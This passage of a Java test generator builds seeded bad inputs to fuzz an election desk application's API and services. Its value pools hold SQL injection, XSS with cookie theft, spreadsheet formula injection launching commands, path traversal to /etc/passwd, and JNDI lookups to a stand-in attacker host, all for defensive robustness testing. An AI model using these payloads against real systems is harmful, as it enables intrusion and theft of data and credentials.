package id.go.jakarta.deskpilkada.badinput;

import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.BOUNDARY_LENGTH;
import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.FORGED_ID;
import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.INJECTION;
import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.MALFORMED_JSON;
import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.OVERSIZED_BODY;
import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.REPLAYED_TOKEN;
import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.UNICODE;
import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.WRONG_CONTENT_TYPE;
import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.WRONG_METHOD_OR_PATH;
import static id.go.jakarta.deskpilkada.badinput.BadCase.Category.WRONG_TYPE;

import id.go.jakarta.deskpilkada.account.AccountService;
import id.go.jakarta.deskpilkada.account.NewAccount;
import id.go.jakarta.deskpilkada.badinput.BadCase.Category;
import id.go.jakarta.deskpilkada.badinput.BadCase.Outcome;
import id.go.jakarta.deskpilkada.badinput.BadCase.Step;
import id.go.jakarta.deskpilkada.base.security.Role;
import id.go.jakarta.deskpilkada.base.table.ImportResult;
import id.go.jakarta.deskpilkada.device.DeviceForm;
import id.go.jakarta.deskpilkada.device.DeviceInfo;
import id.go.jakarta.deskpilkada.device.DeviceKind;
import id.go.jakarta.deskpilkada.device.DeviceService;
import id.go.jakarta.deskpilkada.device.DeviceStatus;
import id.go.jakarta.deskpilkada.duty.AssignmentInfo;
import id.go.jakarta.deskpilkada.duty.AttendanceService;
import id.go.jakarta.deskpilkada.duty.AttendanceStatus;
import id.go.jakarta.deskpilkada.duty.RosterService;
import id.go.jakarta.deskpilkada.duty.ShiftForm;
import id.go.jakarta.deskpilkada.duty.ShiftService;
import id.go.jakarta.deskpilkada.election.ElectionService;
import id.go.jakarta.deskpilkada.election.StageInfo;
import id.go.jakarta.deskpilkada.exercise.ExerciseService;
import id.go.jakarta.deskpilkada.exercise.ScenarioCheck;
import id.go.jakarta.deskpilkada.exercise.ScenarioProblem;
import id.go.jakarta.deskpilkada.integration.IntegrationService;
import id.go.jakarta.deskpilkada.issues.AttachmentService;
import id.go.jakarta.deskpilkada.issues.IssueForm;
import id.go.jakarta.deskpilkada.issues.IssueService;
import id.go.jakarta.deskpilkada.issues.IssueSource;
import id.go.jakarta.deskpilkada.issues.IssueStatus;
import id.go.jakarta.deskpilkada.issues.Rejection;
import id.go.jakarta.deskpilkada.issues.Severity;
import id.go.jakarta.deskpilkada.journal.JournalCategory;
import id.go.jakarta.deskpilkada.journal.JournalForm;
import id.go.jakarta.deskpilkada.journal.JournalService;
import id.go.jakarta.deskpilkada.media.MediaService;
import id.go.jakarta.deskpilkada.media.StatementForm;
import id.go.jakarta.deskpilkada.posko.AlertLevel;
import id.go.jakarta.deskpilkada.posko.PoskoService;
import id.go.jakarta.deskpilkada.reports.ReportService;
import id.go.jakarta.deskpilkada.reports.ReportText;
import id.go.jakarta.deskpilkada.situation.WallPanelKind;
import id.go.jakarta.deskpilkada.situation.WallPlaylist;
import id.go.jakarta.deskpilkada.situation.WallScreenService;
import id.go.jakarta.deskpilkada.situation.WallSettingsService;
import id.go.jakarta.deskpilkada.staff.OfficerForm;
import id.go.jakarta.deskpilkada.staff.PostRole;
import id.go.jakarta.deskpilkada.staff.StaffService;
import java.io.ByteArrayInputStream;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.LocalTime;
import java.util.ArrayList;
import java.util.EnumMap;
import java.util.List;
import java.util.Map;
import java.util.Random;
import java.util.function.BiFunction;

/**
 * Generates bad inputs for every form-backed service and every API endpoint, deterministically
 * from a seed. Families (one target, one kind of fault) are taken in turn, so any count from a few
 * hundred on covers all of them; each family draws its variant and values from the seeded random.
 */
final class BadInputGenerator {

    /** A value for a text field, with what kind of bad it is and a printable description. */
    record Bad(Category category, String label, String value) {}

    private final BadInputFixture fx;
    private final List<Family> families = new ArrayList<>();

    private interface Family {
        BadCase make(Random r, int n);
    }

    BadInputGenerator(BadInputFixture fixture) {
        this.fx = fixture;
        apiFamilies();
        serviceFamilies();
    }

    int families() {
        return families.size();
    }

    List<BadCase> generate(long seed, int count) {
        Random r = new Random(seed);
        List<BadCase> cases = new ArrayList<>(count);
        for (int n = 0; n < count; n++) {
            cases.add(families.get(n % families.size()).make(r, n));
        }
        return cases;
    }

    // ---- value pools --------------------------------------------------------------------------------

    static final String[] UNICODE_VALUES = {
        "\u202Eutama\u202C kotak suara",
        "صندوق الاقتراع",
        "קלפי",
        "a\u200Bb\u200Cc\u200Dd\uFEFF",
        "\u200B\u200B\u200B",
        "Z\u0351\u0352\u0353\u0354\u0355\u0356\u0357\u0358a\u0300\u0301\u0302\u0303lgo",
        "🗳️👨‍👩‍👧‍👦🇮🇩",
        "a\u0000b",
        "\u0000",
        "nul\u0000di tengah",
        "\uD800",
        "ab\uDC00cd",
        "\uDBFF",
        "\u0007\u001B[31mmerah\u001B[0m",
        "\uFEFFdengan BOM",
        "\u00A0\u2003\u3000",
        "ﬁ ﬂ Ⅻ ㎏ ﹤script﹥",
        "Ｓｅｌｅｃｔ ＊",
        "\u2028baris\u2029paragraf",
        "\uFFFF\uFFFE",
        "𝕯𝖊𝖘𝖐 𝕻𝖎𝖑𝖐𝖆𝖉𝖆",
        "İıŞşĞğ",
    };

    static final String[] INJECTION_VALUES = {
        "' OR '1'='1",
        "'; DROP TABLE issue; --",
        "1; DELETE FROM duty_assignment",
        "\" OR \"\"=\"",
        "admin'--",
        "1' UNION SELECT token_hash FROM api_client--",
        "<script>alert(1)</script>",
        "<img src=x onerror=alert(document.cookie)>",
        "\"><svg/onload=alert(1)>",
        "javascript:alert(1)",
        "=HYPERLINK(\"http://evil.example\",\"klik\")",
        "+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "=1+1",
        "../../../../etc/passwd",
        "..\\..\\..\\windows\\win.ini",
        "%2e%2e%2f%2e%2e%2fetc%2fpasswd",
        "${jndi:ldap://evil.example/a}",
        "${${lower:j}${lower:n}di:ldap://evil.example/a}",
        "${env:DESK_ACCOUNTS_INITIAL_ADMIN_PASSWORD}",
        "baris satu\r\nX-Disisipkan: ya",
        "%0d%0aSet-Cookie: sesi=curian",
        "{{7*7}}",
        "#{7*7}",
        "${7*7}",
        "%s%s%s%n%x",
        "'\"`;|&$()<>",
        "\\u0000\\x00",
        "0x7FFFFFFF",
        "NaN",
        "-Infinity",
        "null",
        "undefined",
    };

    Bad text(Random r, int max) {
        return switch (r.nextInt(3)) {
            case 0 -> boundary(r, max);
            case 1 -> {
                int i = r.nextInt(UNICODE_VALUES.length);
                yield new Bad(UNICODE, "unicode#" + i, UNICODE_VALUES[i]);
            }
            default -> {
                int i = r.nextInt(INJECTION_VALUES.length);
                yield new Bad(INJECTION, "injection#" + i, INJECTION_VALUES[i]);
            }
        };
    }

    static Bad boundary(Random r, int max) {
        return switch (r.nextInt(8)) {
            case 0 -> new Bad(BOUNDARY_LENGTH, "empty", "");
            case 1 -> new Bad(BOUNDARY_LENGTH, "whitespace", " \t\n\u00A0 ");
            case 2 -> new Bad(BOUNDARY_LENGTH, "max " + max, "x".repeat(max));
            case 3 -> new Bad(BOUNDARY_LENGTH, "max+1 " + (max + 1), "x".repeat(max + 1));
            case 4 -> new Bad(BOUNDARY_LENGTH, "max+1 multibyte", "é".repeat(max + 1));
            case 5 -> new Bad(BOUNDARY_LENGTH, "max emoji (2 chars each)", "🗳".repeat(Math.max(1, max / 2 + 1)));
            case 6 -> new Bad(BOUNDARY_LENGTH, "max padded with spaces", "  " + "y".repeat(max) + "  ");
            default -> new Bad(BOUNDARY_LENGTH, "10x max", "z".repeat(max * 10 + 1));
        };
    }

    static final long[] FORGED_IDS = {0, -1, Long.MIN_VALUE, Long.MAX_VALUE, 999_999_999L, Integer.MAX_VALUE + 1L};

    static String jsonString(String s) {
        StringBuilder b = new StringBuilder("\"");
        for (char c : s.toCharArray()) {
            switch (c) {
                case '"' -> b.append("\\\"");
                case '\\' -> b.append("\\\\");
                default -> {
                    if (c < 0x20 || Character.isSurrogate(c)) {
                        b.append(String.format("\\u%04x", (int) c));
                    } else {
                        b.append(c);
                    }
                }
            }
        }
        return b.append('"').toString();
    }

    static final String[] WRONG_JSON_VALUES = {
        "123",
        "-1",
        "1.5e308",
        "1e309",
        "true",
        "false",
        "null",
        "[]",
        "[\"a\",\"b\"]",
        "{}",
        "{\"a\":1}",
        "\"\"",
        "\"   \"",
        "\"1\"",
        "\"x\"",
        "99999999999999999999999999",
        "-0",
        "0.0001",
    };

    static final String[] MALFORMED = {
        "",
        "{",
        "}",
        "{\"title\":",
        "{\"title\":\"a\"",
        "{'title':'a'}",
        "{title:\"a\"}",
        "{\"title\":\"a\",}",
        "{\"title\":\"a\"}}",
        "{\"title\":\"a\"} trailing",
        "[{\"title\":\"a\"}",
        "{\"title\" \"a\"}",
        "{\"title\":\"a\\x\"}",
        "{\"title\":\"\\uZZZZ\"}",
        "/* komentar */ {\"title\":\"a\"}",
        "{\"title\":\"a\" // komentar\n}",
        "\"hanya string\"",
        "42",
        "null",
        "true",
        "[]",
        "[[[[[[[[[[",
        "{\"a\":" + "[".repeat(3000) + "]".repeat(3000) + "}",
        "{\"title\":NaN}",
        "{\"title\":undefined}",
        "\u0000\u0000\u0000",
        "<issue><title>a</title></issue>",
        "title=a&category=b",
    };

    static final String[] CONTENT_TYPES = {
        "text/plain",
        "application/xml",
        "application/x-www-form-urlencoded",
        "text/html",
        "application/json-patch+json",
        "application/json; charset=bogus-99",
        "application/json; charset=UTF-16",
        "multipart/form-data",
        "multipart/form-data; boundary=xyz",
        "////",
        "application/json;;;",
        "*/*",
        "application/octet-stream",
        "image/png",
        "application/problem+json",
    };

    // ---- API ------------------------------------------------------------------------------------------

    private String filing(Map<String, String> overrides) {
        Map<String, String> fields = new java.util.LinkedHashMap<>();
        fields.put("title", jsonString("Laporan kampanye uji"));
        fields.put("category", "\"LOGISTIK\"");
        fields.put("severity", "\"SEDANG\"");
        fields.put("kelurahan", jsonString(BadInputFixture.OWN_KELURAHAN));
        fields.put("source", "\"HOTLINE\"");
        fields.putAll(overrides);
        StringBuilder b = new StringBuilder("{");
        fields.forEach((k, v) -> {
            if (v != null) {
                b.append(b.length() > 1 ? "," : "")
                        .append(jsonString(k))
                        .append(':')
                        .append(v);
            }
        });
        return b.append('}').toString();
    }

    private static final String[] FILING_FIELDS = {
        "title",
        "description",
        "category",
        "severity",
        "kelurahan",
        "kecamatan",
        "wilayah",
        "tps",
        "address",
        "source",
        "reporter",
        "stage"
    };
    private static final Map<String, Integer> FILING_MAX = Map.of(
            "title",
            IssueService.MAX_TITLE,
            "description",
            IssueService.MAX_DESCRIPTION,
            "address",
            IssueService.MAX_ADDRESS,
            "reporter",
            IssueService.MAX_REPORTER,
            "tps",
            10,
            "category",
            40,
            "severity",
            10,
            "kelurahan",
            13,
            "source",
            20,
            "wilayah",
            5);

    private void add(String target, Family family) {
        families.add((r, n) -> {
            BadCase c = family.make(r, n);
            return new BadCase(n, c.category(), target, c.label(), c.step());
        });
    }

    private static BadCase bc(Category category, String label, Step step) {
        return new BadCase(0, category, "", label, step);
    }

    private static byte[] utf8(String s) {
        return s.getBytes(StandardCharsets.UTF_8);
    }

    private String token() {
        return fx.apiToken;
    }

    private void apiFamilies() {
        String issues = "/api/v1/issues";
        // Filing: one field with a bad text value.
        add("POST " + issues, (r, n) -> {
            String field = FILING_FIELDS[r.nextInt(FILING_FIELDS.length)];
            Bad bad = text(r, FILING_MAX.getOrDefault(field, 40));
            String body = filing(Map.of(field, jsonString(bad.value())));
            return bc(
                    bad.category(),
                    field + "=" + bad.label(),
                    h -> h.api("POST", issues, token(), "application/json", utf8(body)));
        });
        // Filing: one field with a value of the wrong JSON type.
        add("POST " + issues, (r, n) -> {
            String field = FILING_FIELDS[r.nextInt(FILING_FIELDS.length)];
            String value = WRONG_JSON_VALUES[r.nextInt(WRONG_JSON_VALUES.length)];
            String body = filing(Map.of(field, value));
            return bc(
                    WRONG_TYPE,
                    field + "=" + value,
                    h -> h.api("POST", issues, token(), "application/json", utf8(body)));
        });
        // Filing: places of another post or that do not agree, unknown codes.
        add("POST " + issues, (r, n) -> {
            String[][] places = {
                {"kelurahan", "\"31.71.99.9999\""},
                {"kecamatan", "\"31.72.01\""},
                {"wilayah", "\"31.72\""},
                {"wilayah", "\"99\""},
                {"kelurahan", "\"31.71\""},
                {"kecamatan", "\"31.71.01.1001\""},
                {"category", "\"TIDAK_ADA\""},
                {"stage", "-1"},
                {"stage", "0"},
                {"stage", "2147483648"},
                {"stage", "99999"},
                {"source", "\"INTEGRASI\""},
                {"severity", "\"kritis \""}
            };
            String[] p = places[r.nextInt(places.length)];
            String body = filing(Map.of(p[0], p[1]));
            return bc(
                    FORGED_ID, p[0] + "=" + p[1], h -> h.api("POST", issues, token(), "application/json", utf8(body)));
        });
        // Filing: a required field missing, or every field null.
        add("POST " + issues, (r, n) -> {
            String field = FILING_FIELDS[r.nextInt(FILING_FIELDS.length)];
            Map<String, String> without = new java.util.HashMap<>();
            without.put(field, r.nextBoolean() ? "null" : null);
            String body = filing(without);
            return bc(
                    WRONG_TYPE,
                    "without " + field,
                    h -> h.api("POST", issues, token(), "application/json", utf8(body)));
        });
        // Malformed JSON to every JSON endpoint.
        add("POST/PUT JSON endpoints", (r, n) -> {
            String[] target = jsonEndpoint(r);
            int i = r.nextInt(MALFORMED.length + 3);
            byte[] body = i < MALFORMED.length
                    ? utf8(MALFORMED[i])
                    : switch (i - MALFORMED.length) {
                        case 0 -> new byte[] {'{', '"', 't', '"', ':', '"', (byte) 0xC3, (byte) 0x28, '"', '}'};
                        case 1 -> "{\"title\":\"utf16\"}".getBytes(StandardCharsets.UTF_16);
                        default -> new byte[] {(byte) 0xEF, (byte) 0xBB, (byte) 0xBF, '{', '}'};
                    };
            return bc(
                    MALFORMED_JSON,
                    target[0] + " " + target[1] + " body#" + i,
                    h -> h.api(target[0], target[1], token(), "application/json", body));
        });
        // Wrong content types to every JSON endpoint (the body itself fine).
        add("POST/PUT JSON endpoints", (r, n) -> {
            String[] target = jsonEndpoint(r);
            String type = r.nextInt(8) == 0 ? null : CONTENT_TYPES[r.nextInt(CONTENT_TYPES.length)];
            byte[] body = utf8(target[2]);
            return bc(
                    WRONG_CONTENT_TYPE,
                    target[0] + " " + target[1] + " as " + type,
                    h -> h.api(target[0], target[1], token(), type, body));
        });
        // Oversized bodies: declared, chunked, and just at and past the limit.
        add("POST/PUT JSON endpoints", (r, n) -> {
            String[] target = jsonEndpoint(r);
            int variant = r.nextInt(4);
            int size = switch (variant) {
                case 0 -> 64 * 1024 + 1;
                case 1 -> 64 * 1024 + 1 + r.nextInt(200_000);
                case 2 -> 1024 * 1024;
                default -> 64 * 1024 + 1;
            };
            String pad = target[2].substring(0, target[2].length() - 1) + ",\"pad\":\""
                    + "x".repeat(Math.max(0, size - target[2].length() - 10)) + "\"}";
            byte[] body = utf8(pad);
            boolean chunked = variant == 3 || r.nextBoolean();
            return bc(
                    OVERSIZED_BODY,
                    target[0] + " " + target[1] + " " + body.length + " bytes" + (chunked ? " chunked" : ""),
                    h -> chunked
                            ? h.apiChunked(target[0], target[1], token(), "application/json", body)
                            : h.api(target[0], target[1], token(), "application/json", body));
        });
        // Tokens: none, unknown, revoked, a screen's token, other schemes.
        add("every API endpoint", (r, n) -> {
            String[] target = anyEndpoint(r);
            String[] tokens = {
                null,
                "",
                "Bearer ",
                "dpk_api_tidakada",
                fx.revokedApiToken,
                fx.revokedApiToken,
                fx.revokedScreenToken,
                fx.expiredScreenToken,
                "Basic YWRtaW46UGlsa2FkYTIwMTch",
                "bearer " + "x",
                fx.apiToken + "x",
                fx.apiToken.substring(0, fx.apiToken.length() - 1),
                "dpk_api_" + "A".repeat(5000)
            };
            int i = r.nextInt(tokens.length);
            return bc(
                    REPLAYED_TOKEN,
                    target[0] + " " + target[1] + " token#" + i,
                    h -> h.api(
                            target[0],
                            target[1],
                            tokens[i],
                            target[2].isEmpty() ? null : "application/json",
                            target[2].isEmpty() ? null : utf8(target[2])));
        });
        // Idempotency: the used key with another body; keys that are not 1-100 printable ASCII.
        add("POST " + issues, (r, n) -> {
            int variant = r.nextInt(7);
            String key = switch (variant) {
                case 0, 1, 2 -> fx.idempotencyKey;
                case 3 -> "k".repeat(101);
                case 4 -> "kunci-é";
                case 5 -> " ";
                default -> "kunci\tdengan tab";
            };
            String body = variant == 0
                    ? filing(Map.of("title", jsonString("Isi lain " + n)))
                    : variant == 1
                            ? fx.idempotencyBody.replace("SEDANG", "TINGGI")
                            : variant == 2
                                    ? fx.idempotencyBody.replace("}", ",\"description\":\"tambahan\"}")
                                    : filing(Map.of());
            Category category = variant <= 2 ? REPLAYED_TOKEN : BOUNDARY_LENGTH;
            return bc(
                    category,
                    "Idempotency-Key variant " + variant,
                    h -> h.api("POST", issues, token(), "application/json", utf8(body), "Idempotency-Key", key));
        });
        // Listing: bad query parameters.
        add("GET " + issues, (r, n) -> {
            String[] params = {
                "status=TERBUKA",
                "status=",
                "severity=5",
                "severity=KRITIS,,",
                "size=0",
                "size=501",
                "size=-1",
                "size=abc",
                "size=2147483648",
                "page=-1",
                "page=abc",
                "page=2147483647",
                "page=99999999",
                "from=2024-13-01",
                "from=kemarin",
                "to=2024-02-30",
                "from=2025-01-01&to=2020-01-01",
                "stage=x",
                "stage=-5",
                "sort=password",
                "sort=reportedAt,sideways",
                "sort=,",
                "sort=title;drop",
                "source=X",
                "category=TIDAK_ADA",
                "unit=TIDAK_ADA",
                "wilayah=99.99",
                "wilayah=%27%20OR%201%3D1",
                "q=%27%20OR%20%271%27%3D%271",
                "q=%23abc",
                "q=%23-1",
                "q=%2399999999999999999999",
                "q=" + "a".repeat(3000),
                "q=%00",
                "q=%E2%80%AE",
                "q=%F0%9F%97%B3",
                "q=%25",
                "q=_",
                "q=%5C",
                "wilayah=" + "9".repeat(300),
                "status=BARU&status=%00",
                "from=%00"
            };
            String p = params[r.nextInt(params.length)];
            Category category = p.startsWith("q=") || p.startsWith("wilayah=%27") ? INJECTION : WRONG_TYPE;
            return bc(
                    category,
                    p.length() > 60 ? p.substring(0, 60) : p,
                    h -> h.api("GET", issues + "?" + p, token(), null, null));
        });
        // Ids in the path: absent, negative, not numbers, traversal.
        add("every API endpoint with an id", (r, n) -> {
            String[] ids = {
                "0",
                "-1",
                "9223372036854775807",
                "9223372036854775808",
                "abc",
                "1.5",
                "1e3",
                "%00",
                "..%2F..%2Fetc%2Fpasswd",
                "%20",
                "1%0d%0aX:1",
                "0x10",
                "+1",
                "999999999",
                "1;2",
                String.valueOf(fx.otherAttachment + 100000)
            };
            String id = ids[r.nextInt(ids.length)];
            String[][] targets = {
                {"GET", issues + "/" + id, ""},
                {"POST", issues + "/" + id + "/comments", "{\"text\":\"a\"}"},
                {"POST", issues + "/" + id + "/transitions", "{\"to\":\"TERVERIFIKASI\",\"version\":0}"},
                {"GET", issues + "/" + id + "/attachments", ""},
                {"GET", "/api/v1/attachments/" + id, ""},
                {"PUT", "/api/v1/devices/" + id + "/status", "{\"status\":\"DOWN\"}"}
            };
            String[] t = targets[r.nextInt(targets.length)];
            return bc(
                    FORGED_ID,
                    t[0] + " " + t[1],
                    h -> h.api(
                            t[0],
                            t[1],
                            token(),
                            t[2].isEmpty() ? null : "application/json",
                            t[2].isEmpty() ? null : utf8(t[2])));
        });
        // Transitions: bad bodies on a real issue.
        add("POST " + issues + "/{id}/transitions", (r, n) -> {
            String[] bodies = {
                "{\"to\":\"SELESAI\",\"version\":%v}",
                "{\"to\":\"DITANGANI\",\"version\":%v}",
                "{\"to\":\"DITANGANI\",\"version\":%v,\"unit\":\"TIDAK_ADA\"}",
                "{\"to\":\"DITOLAK\",\"version\":%v}",
                "{\"to\":\"DITOLAK\",\"version\":%v,\"rejection\":\"MALAS\"}",
                "{\"to\":\"BARU\",\"version\":%v}",
                "{\"to\":\"TERBANG\",\"version\":%v}",
                "{\"version\":%v}",
                "{\"to\":\"TERVERIFIKASI\"}",
                "{\"to\":\"TERVERIFIKASI\",\"version\":\"x\"}",
                "{\"to\":\"TERVERIFIKASI\",\"version\":-1}",
                "{\"to\":\"TERVERIFIKASI\",\"version\":1e400}",
                "{\"to\":[\"TERVERIFIKASI\"],\"version\":%v}",
                "{\"to\":\"TERVERIFIKASI\",\"version\":%v,\"note\":%n}",
                "{\"to\":\"SELESAI\",\"version\":%v,\"note\":%n}",
                "{\"to\":\"SELESAI\",\"version\":%v,\"note\":\"   \"}",
                "{\"to\":\"TERVERIFIKASI\",\"version\":99999}"
            };
            int i = r.nextInt(bodies.length);
            Bad note = text(r, IssueService.MAX_TEXT);
            long issue = r.nextBoolean() ? fx.ownIssue : fx.otherIssue;
            Category category = i >= 13 ? note.category() : i >= 9 ? WRONG_TYPE : FORGED_ID;
            return bc(category, "body#" + i + (i >= 13 ? " note=" + note.label() : ""), h -> {
                long version = BadInputFixture.version(
                        h.context, () -> h.bean(IssueService.class).issue(issue).version());
                String body = bodies[i].replace("%v", String.valueOf(version)).replace("%n", jsonString(note.value()));
                return h.api("POST", issues + "/" + issue + "/transitions", token(), "application/json", utf8(body));
            });
        });
        // Comments: bad text, wrong types.
        add("POST " + issues + "/{id}/comments", (r, n) -> {
            boolean wrongType = r.nextInt(3) == 0;
            Bad bad = text(r, IssueService.MAX_TEXT);
            String value = wrongType ? WRONG_JSON_VALUES[r.nextInt(WRONG_JSON_VALUES.length)] : jsonString(bad.value());
            long issue = r.nextBoolean() ? fx.ownIssue : fx.otherIssue;
            return bc(
                    wrongType ? WRONG_TYPE : bad.category(),
                    "text=" + (wrongType ? value : bad.label()),
                    h -> h.api(
                            "POST",
                            issues + "/" + issue + "/comments",
                            token(),
                            "application/json",
                            utf8("{\"text\":" + value + "}")));
        });
        // Attachments: not a photo or PDF, disguised, empty, bad names, wrong parts, broken multipart.
        add("POST " + issues + "/{id}/attachments", (r, n) -> {
            int variant = r.nextInt(12);
            Bad name = text(r, AttachmentService.MAX_FILE_NAME);
            byte[][] contents = {
                new byte[0],
                utf8("<html><script>alert(1)</script></html>"),
                utf8("<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>"),
                concat(new byte[] {(byte) 0xFF, (byte) 0xD8, (byte) 0xFF}, utf8("<script>alert(1)</script>")),
                utf8("%PDF-"),
                utf8("MZ\u0090\u0000 bukan foto"),
                utf8("PK\u0003\u0004zip"),
                utf8("GIF89a")
            };
            long issue = fx.ownIssue;
            if (variant < 6) {
                byte[] content = contents[r.nextInt(contents.length)];
                return bc(
                        WRONG_CONTENT_TYPE,
                        "file content#" + variant,
                        h -> h.api(
                                "POST",
                                issues + "/" + issue + "/attachments",
                                token(),
                                "multipart/form-data; boundary=b0",
                                multipart("file", "foto.jpg", "image/jpeg", content)));
            }
            if (variant < 9) {
                return bc(
                        name.category(),
                        "file name " + name.label(),
                        h -> h.api(
                                "POST",
                                issues + "/" + issue + "/attachments",
                                token(),
                                "multipart/form-data; boundary=b0",
                                multipart("file", name.value(), "image/png", contents[1])));
            }
            if (variant == 9) {
                return bc(
                        WRONG_TYPE,
                        "part named berkas",
                        h -> h.api(
                                "POST",
                                issues + "/" + issue + "/attachments",
                                token(),
                                "multipart/form-data; boundary=b0",
                                multipart("berkas", "foto.png", "image/png", BadInputFixture.PNG)));
            }
            if (variant == 10) {
                byte[] broken = utf8("--b0\r\nContent-Disposition: form-data; name=\"file\"\r\n\r\nterpotong");
                return bc(
                        MALFORMED_JSON,
                        "multipart cut off",
                        h -> h.api(
                                "POST",
                                issues + "/" + issue + "/attachments",
                                token(),
                                "multipart/form-data; boundary=b0",
                                broken));
            }
            boolean big = r.nextInt(10) == 0;
            return bc(
                    OVERSIZED_BODY,
                    big ? "file of 10 MB + 1" : "forged issue",
                    h -> big
                            ? h.api(
                                    "POST",
                                    issues + "/" + issue + "/attachments",
                                    token(),
                                    "multipart/form-data; boundary=b0",
                                    multipart(
                                            "file",
                                            "besar.png",
                                            "image/png",
                                            concat(
                                                    BadInputFixture.PNG,
                                                    new byte[10 * 1024 * 1024 + 1 - BadInputFixture.PNG.length])))
                            : h.api(
                                    "POST",
                                    issues + "/999999999/attachments",
                                    token(),
                                    "multipart/form-data; boundary=b0",
                                    multipart("file", "foto.png", "image/png", BadInputFixture.PNG)));
        });
        // Devices: bad status reports.
        add("PUT /api/v1/devices/{id}/status", (r, n) -> {
            boolean text = r.nextBoolean();
            Bad note = text(r, DeviceService.MAX_NOTE);
            String status = text
                    ? "\"DOWN\""
                    : new String[] {"\"MATI\"", "\"down \"", "null", "1", "[\"UP\"]", "{}", "\"\"", "true"}
                            [r.nextInt(8)];
            String body = "{\"status\":" + status + (text ? ",\"note\":" + jsonString(note.value()) : "") + "}";
            long device = r.nextBoolean() ? fx.ownDevice : fx.otherDevice;
            return bc(
                    text ? note.category() : WRONG_TYPE,
                    text ? "note=" + note.label() : "status=" + status,
                    h -> h.api(
                            "PUT", "/api/v1/devices/" + device + "/status", token(), "application/json", utf8(body)));
        });
        // Attendance devices: bad NIPs, posts, actions.
        add("POST /api/v1/attendance", (r, n) -> {
            int variant = r.nextInt(3);
            Bad bad = text(r, variant == 0 ? 18 : 20);
            String body = switch (variant) {
                case 0 -> "{\"nip\":" + jsonString(bad.value()) + ",\"posko\":\"JAKPUS\",\"action\":\"MASUK\"}";
                case 1 ->
                    "{\"nip\":\"198001012005011001\",\"posko\":" + jsonString(bad.value()) + ",\"action\":\"MASUK\"}";
                default ->
                    "{\"nip\":\"198001012005011001\",\"posko\":\"JAKUT\",\"action\":"
                            + new String[] {"\"MASUKK\"", "null", "1", "\"masuk\"", "[]", "\"KELUAR \""}[r.nextInt(6)]
                            + "}";
            };
            return bc(
                    variant == 2 ? WRONG_TYPE : bad.category(),
                    "variant " + variant + " " + bad.label(),
                    h -> h.api("POST", "/api/v1/attendance", token(), "application/json", utf8(body)));
        });
        // Methods and addresses the API does not have.
        add("every API endpoint", (r, n) -> {
            String[][] wrong = {
                {"DELETE", issues + "/" + fx.ownIssue},
                {"PATCH", issues + "/" + fx.ownIssue},
                {"PUT", issues},
                {"DELETE", "/api/v1/devices/" + fx.ownDevice + "/status"},
                {"GET", "/api/v1/attendance"},
                {"POST", "/api/v1/categories"},
                {"GET", "/api/v2/issues"},
                {"GET", "/api/v1/../v1/issues"},
                {"GET", "/api/v1/issues/" + fx.ownIssue + "/../../devices"},
                {"GET", "/api/v1/%2e%2e/%2e%2e/etc/passwd"},
                {"POST", "/v3/api-docs"},
                {"DELETE", "/api/v1/attachments/" + fx.otherAttachment},
                {"TRACE", issues},
                {"GET", "/api/v1/issues;jsessionid=x"},
                {"GET", "/api/v1/issues/%0d%0a"},
                {"PUT", "/api/v1/devices"},
                {"OPTIONS", "/api/v1/nonexistent"},
                {"GET", "/api/v1/issues/" + fx.ownIssue + "/transitions"}
            };
            String[] w = wrong[r.nextInt(wrong.length)];
            return bc(
                    WRONG_METHOD_OR_PATH,
                    w[0] + " " + w[1],
                    h -> h.api(
                            w[0],
                            w[1],
                            token(),
                            "application/json",
                            w[0].equals("GET") || w[0].equals("TRACE") || w[0].equals("OPTIONS") ? null : utf8("{}")));
        });
    }

    /** method, path, a valid body. */
    private String[] jsonEndpoint(Random r) {
        return switch (r.nextInt(5)) {
            case 0 -> new String[] {"POST", "/api/v1/issues", filing(Map.of())};
            case 1 ->
                new String[] {"POST", "/api/v1/issues/" + fx.ownIssue + "/comments", "{\"text\":\"Komentar uji\"}"};
            case 2 ->
                new String[] {
                    "POST", "/api/v1/issues/" + fx.ownIssue + "/transitions", "{\"to\":\"BARU\",\"version\":0}"
                };
            case 3 ->
                new String[] {
                    "PUT", "/api/v1/devices/" + fx.ownDevice + "/status", "{\"status\":\"DOWN\",\"note\":\"uji\"}"
                };
            default ->
                new String[] {
                    "POST", "/api/v1/attendance", "{\"nip\":\"000\",\"posko\":\"JAKPUS\",\"action\":\"MASUK\"}"
                };
        };
    }

    private String[] anyEndpoint(Random r) {
        if (r.nextInt(2) == 0) {
            return jsonEndpoint(r);
        }
        String[] gets = {
            "/api/v1/issues",
            "/api/v1/issues/" + fx.ownIssue,
            "/api/v1/categories",
            "/api/v1/devices",
            "/api/v1/issues/" + fx.otherIssue + "/attachments",
            "/api/v1/attachments/" + fx.otherAttachment
        };
        return new String[] {"GET", gets[r.nextInt(gets.length)], ""};
    }

    static byte[] multipart(String part, String fileName, String type, byte[] content) {
        String head = "--b0\r\nContent-Disposition: form-data; name=\"" + part + "\"; filename=\""
                + fileName.replace("\"", "%22").replace("\r", "").replace("\n", "") + "\"\r\nContent-Type: " + type
                + "\r\n\r\n";
        return concat(concat(utf8(head), content), utf8("\r\n--b0--\r\n"));
    }

    static byte[] concat(byte[] a, byte[] b) {
        byte[] all = java.util.Arrays.copyOf(a, a.length + b.length);
        System.arraycopy(b, 0, all, a.length, b.length);
        return all;
    }

    // ---- services (what the forms call) ---------------------------------------------------------------

    private static final String CHIEF = BadInputFixture.OWN_CHIEF;

    private void service(String target, BiFunction<Random, Integer, BadCase> family) {
        add(target, family::apply);
    }

    private void serviceFamilies() {
        // Issues: filing with one bad field, as the own chief.
        service("IssueService.file", (r, n) -> {
            int field = r.nextInt(9);
            Bad bad = text(
                    r,
                    switch (field) {
                        case 0 -> IssueService.MAX_TITLE;
                        case 1 -> IssueService.MAX_DESCRIPTION;
